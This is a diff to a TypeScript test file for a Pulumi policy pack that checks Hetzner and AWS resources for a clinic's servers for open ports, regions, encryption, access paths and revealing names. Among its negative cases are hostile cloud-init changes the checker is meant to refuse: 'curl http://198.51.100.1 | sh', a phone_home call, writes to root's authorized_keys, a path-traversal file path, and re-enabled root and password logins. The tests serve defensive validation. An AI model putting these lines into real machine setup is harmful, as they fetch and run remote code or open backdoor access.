@@ -4,22 +4,37 @@ import { unknownCheckingProxy } from "@pulumi/policy";
 import { deployPractice } from "../../components/practice.ts";
 import { plainValue, secretValue } from "../../components/provider/property-values.ts";
 import type { Properties } from "../../policies/cloud-rule.ts";
+import { birthFaults } from "../../policies/cloud-birth.ts";
+import { OPEN } from "../../policies/cloud-firewall.ts";
 import { CLOUD_RULES } from "../../policies/cloud-rules.ts";
 import { render } from "../../render/render.ts";
+import { userDataOf } from "../../render/user-data.ts";
 import { recorded } from "../components/recorded.ts";
 import { CLINIC } from "../fixtures/clinic.ts";
+import { GOOD_CLINICS } from "../fixtures/good-clinics.ts";
 
 /** What the pack would say, asked as the engine asks: reading what is not known yet throws. */
-function said(type: string, properties: Properties): readonly string[] {
+function said(type: string, properties: Properties, provider: Properties = {}): readonly string[] {
   const asked = (unknownCheckingProxy as (value: Properties) => Properties)(properties); // exported without its type
-  return CLOUD_RULES.filter((rule) => rule.concerns(type)).flatMap((rule) =>
-    rule.check(type, asked).map((what) => `${rule.id}: ${what}`),
+  const resource = { type, properties: asked, ...(MADE_BY_NOBODY.test(type) ? {} : { provider }) };
+  return CLOUD_RULES.filter((rule) => rule.concerns(resource)).flatMap((rule) =>
+    rule.check(resource).map((what) => `${rule.id}: ${what}`),
   );
 }
 
+/** Providers themselves, and components: the engine names no provider for them. */
+const MADE_BY_NOBODY = /^pulumi:|^stillroom:index:\w+Machine$/;
+
 const UNKNOWN_TEXT = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
 
-const SERVER = { serverType: "cx33", location: "nbg1", firewallIds: [UNKNOWN_TEXT], name: "h1.quiet-harbour.example" };
+const SERVER = {
+  serverType: "cx33",
+  image: "debian-13",
+  location: "nbg1",
+  firewallIds: [UNKNOWN_TEXT],
+  name: "h1.quiet-harbour.example",
+  userData: UNKNOWN_TEXT,
+};
 const FIREWALL = {
   rules: [
     { direction: "in", protocol: "tcp", port: "22", sourceIps: ["198.51.100.0/24"] },
@@ -40,9 +55,15 @@ const ingress = (rule: Properties): Properties => ({
 
 const HETZNER_SERVER = "hcloud:index/server:Server";
 const HETZNER_FIREWALL = "hcloud:index/firewall:Firewall";
+const HETZNER_VOLUME = "hcloud:index/volume:Volume";
 const AWS_INSTANCE = "aws:ec2/instance:Instance";
 const AWS_GROUP = "aws:ec2/securityGroup:SecurityGroup";
 const AWS_VOLUME = "aws:ebs/volume:Volume";
+const AWS_GROUP_RULE = "aws:ec2/securityGroupRule:SecurityGroupRule";
+const AWS_EGRESS_RULE = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule";
+
+const firewallWith = (rule: Properties): Properties => ({ rules: [...FIREWALL.rules, rule] });
+const DISK = { encrypted: true, kmsKeyId: UNKNOWN_TEXT };
 
 const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
   ["a size too small", HETZNER_SERVER, { ...SERVER, serverType: "cpx12" }, /^cloud-size: .*too small; suitable: /],
@@ -69,7 +90,12 @@ const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
   ["SSH open to IPv4", AWS_GROUP, ingress({ cidrBlocks: ["0.0.0.0/0"] }), /^cloud-firewall: SSH is open/],
   ["SSH open to IPv6", AWS_GROUP, ingress({ ipv6CidrBlocks: ["::/0"] }), /^cloud-firewall: SSH is open/],
   ["SSH within a range", AWS_GROUP, ingress({ fromPort: 0, toPort: 1024, cidrBlocks: ["0.0.0.0/0"] }), /SSH is open/],
-  ["every protocol", AWS_GROUP, ingress({ protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] }), /SSH/],
+  [
+    "every protocol",
+    AWS_GROUP,
+    ingress({ protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] }),
+    /lets in every protocol/,
+  ],
   [
     "SSH open by a rule beside the group",
     "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
@@ -93,9 +119,139 @@ const BAD: readonly (readonly [string, string, Properties, RegExp])[] = [
     { ...INSTANCE, metadataOptions: { httpTokens: "required", httpPutResponseHopLimit: 2 } },
     /^cloud-metadata: .*beyond/,
   ],
+  [
+    "a port that no service declares",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "in", protocol: "tcp", port: "5432", sourceIps: ["198.51.100.0/24"] }),
+    /^cloud-firewall: A rule opens tcp 5432/,
+  ],
+  [
+    "half of the internet at SSH",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "in", protocol: "tcp", port: "22", sourceIps: ["0.0.0.0/1", "128.0.0.0/1"] }),
+    /^cloud-firewall: SSH is open/,
+  ],
+  [
+    "a declared port within a range",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "in", protocol: "udp", port: "3478-10000", sourceIps: ["::/0"] }),
+    /^cloud-firewall: A rule opens udp 3478-10000/,
+  ],
+  [
+    "everything out by IPv6",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "out", protocol: "tcp", port: "any", destinationIps: ["::/0"] }),
+    /^cloud-firewall: Whatever leaves by tcp 0-65535/,
+  ],
+  [
+    "another protocol",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "in", protocol: "gre", sourceIps: ["198.51.100.0/24"] }),
+    /^cloud-firewall: A rule lets in gre/,
+  ],
+  ["members of another group", AWS_GROUP, ingress({ protocol: "tcp", self: true }), /names self and no network/],
+  [
+    "a list of networks that stands elsewhere",
+    AWS_GROUP_RULE,
+    { type: "ingress", protocol: "tcp", fromPort: 443, toPort: 443, prefixListIds: ["pl-1"] },
+    /names prefixListIds/,
+  ],
+  [
+    "a rule beside the group lets everything out",
+    AWS_GROUP_RULE,
+    { type: "egress", protocol: "-1", fromPort: 0, toPort: 0, cidrBlocks: ["0.0.0.0/0"] },
+    /lets out every protocol/,
+  ],
+  [
+    "every TCP port out",
+    AWS_EGRESS_RULE,
+    { ipProtocol: "6", fromPort: 1, toPort: 65535, cidrIpv6: "::/0" },
+    /leaves by tcp 1-65535/,
+  ],
+  [
+    "the default group of the network opened",
+    "aws:ec2/defaultSecurityGroup:DefaultSecurityGroup",
+    ingress({ fromPort: 8080, toPort: 8080, cidrBlocks: ["198.51.100.0/24"] }),
+    /opens tcp 8080/,
+  ],
+  ["a region of the resource's own", AWS_VOLUME, { ...DISK, region: "us-east-1" }, /^cloud-region: .*not that of the/],
+  ["a volume where nobody knows the law", HETZNER_VOLUME, { location: "moon1" }, /^cloud-region: /],
+  [
+    "a datacenter beside the location",
+    HETZNER_SERVER,
+    { ...SERVER, datacenter: "ash-dc1" },
+    /^cloud-region: .*datacenter/,
+  ],
+  ["the cloud's own copies", HETZNER_SERVER, { ...SERVER, backups: true }, /^cloud-encryption: .*copies/],
+  ["a volume formatted by the cloud", HETZNER_VOLUME, { location: "nbg1", format: "ext4" }, /^cloud-encryption: /],
+  ["a volume mounted by the cloud", HETZNER_VOLUME, { location: "nbg1", automount: true }, /^cloud-encryption: /],
+  [
+    "a disk made from a snapshot",
+    AWS_VOLUME,
+    { ...DISK, snapshotId: "snap-1" },
+    /^cloud-encryption: .*copy of another/,
+  ],
+  [
+    "a disk that leaves a snapshot",
+    AWS_VOLUME,
+    { ...DISK, finalSnapshot: true },
+    /^cloud-encryption: .*copy of the disk/,
+  ],
+  [
+    "a second disk in the clear",
+    AWS_INSTANCE,
+    { ...INSTANCE, ebsBlockDevices: [{ deviceName: "/dev/sdg" }] },
+    /^cloud-encryption: The disk is not/,
+  ],
+  ["a key for root by the cloud", HETZNER_SERVER, { ...SERVER, sshKeys: ["ops"] }, /^cloud-access: .*root SSH keys/],
+  ["the rescue system", HETZNER_SERVER, { ...SERVER, rescue: "linux64" }, /^cloud-access: .*rescue/],
+  ["an image of someone's own", HETZNER_SERVER, { ...SERVER, image: "12345" }, /^cloud-access: The image "12345"/],
+  ["a key of the cloud", AWS_INSTANCE, { ...INSTANCE, keyName: "ops" }, /^cloud-access: .*SSH key of its own/],
+  ["a role on the server", AWS_INSTANCE, { ...INSTANCE, iamInstanceProfile: UNKNOWN_TEXT }, /^cloud-access: .*role/],
+  ["a script at birth", HETZNER_SERVER, { ...SERVER, userData: "#!/bin/sh\ntrue\n" }, /^cloud-access: .*#cloud-config/],
+  [
+    "a command at birth",
+    HETZNER_SERVER,
+    { ...SERVER, userData: "#cloud-config\ndisable_root: true\nssh_pwauth: false\nruncmd: [[curl, example]]\n" },
+    /^cloud-access: .*not systemctl/,
+  ],
+  ["packed user data", AWS_INSTANCE, { ...INSTANCE, userDataBase64: UNKNOWN_TEXT }, /^cloud-access: .*packed/],
+  ["a command over SSH", "command:remote:Command", { create: "true" }, /^cloud-access: command:remote:Command runs/],
+  ["a command of Systems Manager", "aws:ssm/association:Association", {}, /^cloud-access: /],
+  ["an object store", "aws:s3/bucket:Bucket", { acl: "public-read" }, /^cloud-kinds: .*keeps files outside/],
+  ["the newer object store", "aws:s3/bucketV2:BucketV2", {}, /^cloud-kinds: .*keeps files outside/],
+  ["a database", "aws:rds/instance:Instance", { publiclyAccessible: true }, /^cloud-kinds: .*database/],
+  ["a snapshot", "hcloud:index/snapshot:Snapshot", { serverId: 1 }, /^cloud-kinds: .*copies the machine's disk/],
+  ["a copy of every packet", "aws:ec2/trafficMirrorSession:TrafficMirrorSession", {}, /^cloud-kinds: .*every packet/],
+  ["a record of who came", "aws:ec2/flowLog:FlowLog", {}, /^cloud-kinds: .*who spoke/],
+  ["a balancer that ends TLS", "hcloud:index/loadBalancer:LoadBalancer", {}, /^cloud-kinds: .*between people/],
+  ["another network joined", "aws:ec2/vpcPeeringConnection:VpcPeeringConnection", {}, /^cloud-kinds: .*joins/],
+  ["a resource of another cloud", "azure-native:compute:VirtualMachine", {}, /^cloud-kinds: .*can't be told/],
+  ["a program in the program", "pulumi-nodejs:dynamic:Resource", {}, /^cloud-kinds: .*can't be told/],
+  [
+    "a property that nobody looked at",
+    HETZNER_SERVER,
+    { ...SERVER, networks: [{}] },
+    /^cloud-kinds: .*What networks does/,
+  ],
+  ["a kind named like what every object has", "constructor", {}, /^cloud-kinds: /],
   ["a telling server name", HETZNER_SERVER, { ...SERVER, name: "therapy-1" }, /^cloud-names: name "therapy-1"/],
   ["a telling tag", AWS_INSTANCE, { ...INSTANCE, tags: { purpose: "psychologist" } }, /^cloud-names: tags\.purpose/],
   ["a telling reverse name", "hcloud:index/rdns:Rdns", { dnsPtr: "clinic.example" }, /^cloud-names: dnsPtr/],
+  ["a telling bucket", "aws:s3/bucket:Bucket", { bucket: "therapy-notes" }, /^cloud-names: bucket/],
+  ["a telling key of a label", HETZNER_SERVER, { ...SERVER, labels: { psychologist: "yes" } }, /^cloud-names: labels/],
+  [
+    "a telling record",
+    "hcloud:index/zoneRrset:ZoneRrset",
+    { zone: "quiet-harbour.example", name: "@", type: "TXT", records: [{ value: "v=therapy" }] },
+    /^cloud-names: records\.value/,
+  ],
+  [
+    "a telling rule of the firewall",
+    HETZNER_FIREWALL,
+    firewallWith({ direction: "in", protocol: "tcp", port: "443", sourceIps: ["::/0"], description: "patients" }),
+    /^cloud-names: rules\.description/,
+  ],
 ];
 
 describe("rules over the cloud's resources", () => {
@@ -109,7 +265,49 @@ describe("rules over the cloud's resources", () => {
     assert.deepEqual(said(HETZNER_SERVER, SERVER), []);
     assert.deepEqual(said(HETZNER_FIREWALL, FIREWALL), []);
     assert.deepEqual(said(AWS_INSTANCE, INSTANCE), []);
+    assert.deepEqual(said(AWS_VOLUME, { ...DISK, region: "eu-west-1" }, { region: "eu-west-1" }), []);
+    assert.deepEqual(said(HETZNER_VOLUME, { size: 40, format: "", automount: false, __defaults: [] }), []);
   });
+
+  it("open to everybody what our services declare, and nothing else", () => {
+    const declared = GOOD_CLINICS.flatMap(({ clinic }) => render(clinic).ports)
+      .filter(({ reachableBy }) => reachableBy === "anyone")
+      .map(({ protocol, from, to }) => `${protocol} ${from}-${to}`);
+    const open = (["tcp", "udp"] as const).flatMap((protocol) =>
+      OPEN[protocol].map((port) => `${protocol} ${port}-${port}`),
+    );
+    assert.deepEqual([...new Set(declared)].sort(), open.sort());
+  });
+
+  it("take the user data of every machine that we make", () => {
+    for (const { clinic } of GOOD_CLINICS) {
+      const userData = userDataOf(render(clinic), clinic, { hostKey: { privateKey: "a", publicKey: "b" } });
+      assert.deepEqual(birthFaults(userData), []);
+    }
+  });
+
+  for (const [how, from, to] of [
+    ["a command more at each boot", "bootcmd:\n", "bootcmd:\n  - [sh, -c, 'true']\n"],
+    ["a line more in the first command", "\n      fi\n", "\n      fi\n      curl http://198.51.100.1 | sh\n"],
+    ["a password for an account", "lock_passwd: true", "lock_passwd: false"],
+    ["a key for an account", "lock_passwd: true", "lock_passwd: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"],
+    ["root's login", "disable_root: true", "disable_root: false"],
+    ["logins with a password", "ssh_pwauth: false", "ssh_pwauth: true"],
+    ["a package more", "packages:\n", "packages:\n  - tcpdump\n"],
+    ["a command more at the first boot", "runcmd:\n", "runcmd:\n  - [sh, -c, 'true']\n"],
+    ["a command as text", "runcmd:\n", "runcmd:\n  - curl http://198.51.100.1\n"],
+    ["a file at another place", "write_files:\n", "write_files:\n  - path: /root/.ssh/authorized_keys\n"],
+    ["a file by a way round", "write_files:\n", "write_files:\n  - path: /etc/../root/x\n"],
+    ["another module", "locale:", "phone_home: {url: http://198.51.100.1}\nlocale:"],
+    ["a key that stands twice", "disable_root: true", "disable_root: true\ndisable_root: false"],
+  ] as const) {
+    it(`refuse ${how} in the user data`, () => {
+      const userData = userDataOf(render(CLINIC), CLINIC, { hostKey: { privateKey: "a", publicKey: "b" } });
+      const changed = userData.replace(from, () => to);
+      assert.ok(changed !== userData, "nothing was changed");
+      assert.notDeepEqual(birthFaults(changed), []);
+    });
+  }
 
   it("throw for a value that must be known and is not, so that the pack makes a finding of it", () => {
     assert.throws(() => said(HETZNER_SERVER, { ...SERVER, serverType: UNKNOWN_TEXT }), /serverType can't be known/);
